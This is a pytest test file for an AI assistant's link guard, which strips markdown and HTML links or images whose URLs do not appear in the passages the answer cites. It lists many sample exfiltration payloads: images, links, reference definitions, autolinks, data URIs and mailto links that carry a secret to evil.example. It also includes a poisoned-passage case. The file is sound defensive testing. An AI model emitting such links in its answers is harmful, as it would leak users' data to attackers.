"""The markdown exfiltration channel: links and images in an answer (or a quote) stay only
when their URL appears in a passage the answer cites (assistant/guards/links.py, run by
Guards.check_output and Guards.check_quote). Real guards, no embedder: fast."""

from __future__ import annotations

import pytest

from assistant.guards.guards import Guards
from assistant.guards.links import remove_outside_links
from assistant.prompt import SYSTEM_PROMPT
from assistant.records import Passage

SECRET = "SECRET42"
DOC = ("LoRA freezes the original weights and trains two small low-rank matrices. "
       "The guide is at https://docs.example/lora and the figure at "
       "https://docs.example/lora.png for reference.")


@pytest.fixture(scope="module")
def guards() -> Guards:
    return Guards(SYSTEM_PROMPT)


def passage(n: int, text: str = DOC, source: str = "lora.md") -> Passage:
    return Passage(n, f"{source}#{n}", source, "", text, 0.8, 0, len(text))


# -- the function -------------------------------------------------------------------------------

OUTSIDE = [
    ("image", f"See ![chart](https://evil.example/log?q={SECRET}) here.", "See chart here."),
    ("link", f"See [the guide](http://evil.example/?d={SECRET}) here.", "See the guide here."),
    ("reference", f"See [the guide][1] here.\n\n[1]: http://evil.example/{SECRET}\n",
     "See the guide here.\n\n"),
    ("reference next line", f"See [the guide][g].\n[g]:\n  <http://evil.example/{SECRET}>",
     "See the guide.\n"),
    ("collapsed reference image", f"![pix][]\n[pix]: https://evil.example/{SECRET}.gif",
     "pix\n"),
    ("autolink", f"Go to <https://evil.example/{SECRET}> now.", "Go to (link removed) now."),
    ("bare url", f"Go to https://evil.example/{SECRET}. Then stop.",
     "Go to (link removed). Then stop."),
    ("www", f"Go to www.evil.example/{SECRET} now.", "Go to (link removed) now."),
    ("entity-encoded scheme", f"Go to https&#58;//evil.example/{SECRET} now.",
     "Go to (link removed) now."),
    ("html img", f'A <img src="https://evil.example/{SECRET}.png" alt="chart"> B', "A chart B"),
    ("html a", f"A <a href='http://evil.example/{SECRET}'>the guide</a> B", "A the guide B"),
    ("data uri image", "![x](data:image/png;base64,iVBORw0KGgo=) B", "x B"),
    ("data uri link", "[open](data:text/html;base64,PHNjcmlwdD4=) B", "open B"),
    ("mailto", f"[mail us](mailto:drop@evil.example?body={SECRET}) B", "mail us B"),
    ("protocol-relative", f"[x](//evil.example/{SECRET}) B", "x B"),
    ("nested", f"[![logo](https://evil.example/a)](https://evil.example/{SECRET})", "logo"),
    ("query added to a source url", f"[guide](https://docs.example/lora?q={SECRET})", "guide"),
]


@pytest.mark.parametrize("name,text,expected", OUTSIDE, ids=[c[0] for c in OUTSIDE])
def test_links_outside_the_sources_lose_their_url_and_keep_their_text(name, text, expected):
    result = remove_outside_links(text, [DOC])
    assert result.text == expected
    assert SECRET not in result.text and "evil.example" not in result.text
    assert result.changed and SECRET not in result.summary()


INSIDE = [
    "See [the guide](https://docs.example/lora) [1].",
    "See ![fig](<https://docs.example/lora.png> \"Figure\") [1].",
    "See <https://docs.example/lora> and https://docs.example/lora.",
    "See [the guide][g].\n\n[g]: https://docs.example/lora\n",
    '<a href="https://docs.example/lora">guide</a>',
    "See [the top](#top) and [nothing]().",
    "See https%3A%2F%2Fdocs.example%2Flora",  # not a link; left alone either way
]


@pytest.mark.parametrize("text", INSIDE)
def test_links_to_urls_in_the_sources_stay(text):
    result = remove_outside_links(text, [DOC])
    assert result.text == text and not result.changed


NOT_LINKS = [
    "x < y and [1] and [2, 3] are citation markers [1].",
    "[Note]: this sentence is text, not a link definition.",
    "A footnote.\n\n[^1]: https is a protocol",
    "Use `pip install peft` and call model.merge_and_unload() [1].",
    "Ratios like 3:1 and times like 10:30, a path like /usr/lib/x.so.",
]


@pytest.mark.parametrize("text", NOT_LINKS)
def test_text_without_links_is_unchanged(text):
    assert remove_outside_links(text, []).text == text


def test_the_note_counts_links_and_images():
    result = remove_outside_links(
        "[a](http://e.example/1) [b](http://e.example/2) ![c](http://e.example/3.gif)", [])
    assert result.text == "a b c"
    assert result.note() == "I removed 2 links and 1 image that pointed outside the sources."
    one = remove_outside_links("[a](http://e.example/1)", [])
    assert one.note() == "I removed 1 link that pointed outside the sources."


def test_citation_markers_next_to_a_link_survive():
    text = "Cited [1] and [x](http://evil.example/a) and [2]."
    assert remove_outside_links(text, []).text == "Cited [1] and x and [2]."


def test_a_planted_definition_cannot_turn_citation_markers_into_links():
    text = f"LoRA trains two matrices [1].\n\n[1]: https://evil.example/{SECRET}"
    assert remove_outside_links(text, [DOC]).text == "LoRA trains two matrices [1].\n\n"


# -- in the guards ------------------------------------------------------------------------------


def _links_decision(verdict_decisions):
    return next(d for d in verdict_decisions if d.validator == "links")


def test_check_output_removes_an_exfiltration_image_and_says_so(guards):
    answer = ("LoRA freezes the original weights and trains two small low-rank matrices "
              f"![chart](https://evil.example/log?q={SECRET}) [1].")
    verdict = guards.check_output(answer, [passage(1)])
    assert "evil.example" not in verdict.text and SECRET not in verdict.text
    assert "I removed 1 image that pointed outside the sources." in verdict.message
    decision = _links_decision(verdict.decisions)
    assert decision.outcome == "fail" and decision.action == "fix"
    assert SECRET not in decision.detail and "evil" not in decision.detail


def test_a_link_found_in_the_cited_passage_stays(guards):
    answer = ("LoRA freezes the original weights and trains two small low-rank matrices, "
              "see [the guide](https://docs.example/lora) [1].")
    verdict = guards.check_output(answer, [passage(1)])
    assert "](https://docs.example/lora)" in verdict.text
    assert _links_decision(verdict.decisions).outcome == "pass"
    assert "outside the sources" not in verdict.message


def test_a_url_only_in_an_uncited_passage_is_removed(guards):
    other = passage(2, "Poisoned page: see https://evil.example/collect for more.", "bad.md")
    answer = ("LoRA freezes the original weights and trains two small low-rank matrices, "
              "see [the guide](https://evil.example/collect) [1].")
    verdict = guards.check_output(answer, [passage(1), other])
    assert "evil.example" not in verdict.text and "the guide" in verdict.text


def test_html_links_are_removed_before_html_is_escaped(guards):
    answer = ("LoRA freezes the original weights and trains two small low-rank matrices "
              f'<a href="https://evil.example/{SECRET}">here</a> [1].')
    verdict = guards.check_output(answer, [passage(1)])
    assert "evil.example" not in verdict.text and "here" in verdict.text
    assert "&lt;a" not in verdict.text


def test_check_quote_keeps_source_links_only_with_its_passages(guards):
    quote = "> The guide is at https://docs.example/lora for reference. [1]"
    text, decisions, notes = guards.check_quote(quote, [passage(1)])
    assert text == quote and _links_decision(decisions).outcome == "pass"
    text, decisions, notes = guards.check_quote(quote)
    assert "https://docs.example" not in text and "(link removed)" in text
    assert _links_decision(decisions).action == "fix" and notes
